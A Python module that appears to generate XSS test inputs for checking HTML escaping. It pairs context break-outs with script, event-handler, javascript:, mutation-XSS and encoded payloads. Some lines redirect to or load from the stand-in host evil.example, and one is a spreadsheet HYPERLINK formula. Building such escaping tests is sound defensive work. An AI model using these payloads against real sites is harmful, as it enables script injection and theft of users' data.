"""Two hundred and more texts that want to be a part of a page: ways out of where text stands, and what to do then.

Each carries ``data-p``, and what would run calls ``hit()``: a page that took one for markup has an element with that
attribute, a handler or an address of a script.
"""

from __future__ import annotations

WAYS_OUT = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "`>",
    "</option></select>",
    "\\x3c",
]
THEN = [
    "<script data-p>hit()</script>",
    "<img data-p src=x onerror=hit()>",
    "<svg data-p onload=hit()>",
    "<svg data-p><animate onbegin=hit() attributeName=x></svg>",
    '<iframe data-p srcdoc="<script>parent.hit()</script>"></iframe>',
    '<a data-p href="javascript:hit()">press</a>',
    "<style data-p>*{display:none}</style>",
    '<link data-p rel=stylesheet href="http://evil.example/x.css">',
    '<base data-p href="http://evil.example/">',
    '<meta data-p http-equiv=refresh content="0;url=http://evil.example/">',
    '<form data-p action="javascript:hit()"><button>Go on</button></form>',
    "<input data-p autofocus onfocus=hit()>",
    "<details data-p open ontoggle=hit()>",
    '<object data-p data="data:text/html,x"></object>',
    "<template data-p shadowrootmode=open>x</template>",
    '<div data-p hx-get="/board/" hx-trigger=load>',
    '<button data-p formaction="javascript:hit()">Save</button>',
    "<math data-p><mtext><mglyph><style><img src=x onerror=hit()></style></mglyph></mtext></math>",
]
WITHIN = [
    '" data-p onmouseover=hit() x="',
    "' data-p onfocus=hit() autofocus x='",
    " data-p onclick=hit() ",
    "javascript:hit()//data-p",
    "{{ data-p }}{% load static %}${hit()}",
    "&lt;b data-p&gt;&#60;b data-p&#62;",
    "\uff1cscript data-p\uff1ehit()\uff1c/script\uff1e",
    "%3Cscript data-p%3Ehit()%3C/script%3E",
    '=HYPERLINK("http://evil.example/data-p")',
    "<scr<script>ipt data-p>hit()</scr</script>ipt>",
    "<<b data-p>b data-p>",
    "<b\tdata-p\n>",
]
MARKUP = [f"{way_out}{then}" for way_out in WAYS_OUT for then in THEN] + WITHIN
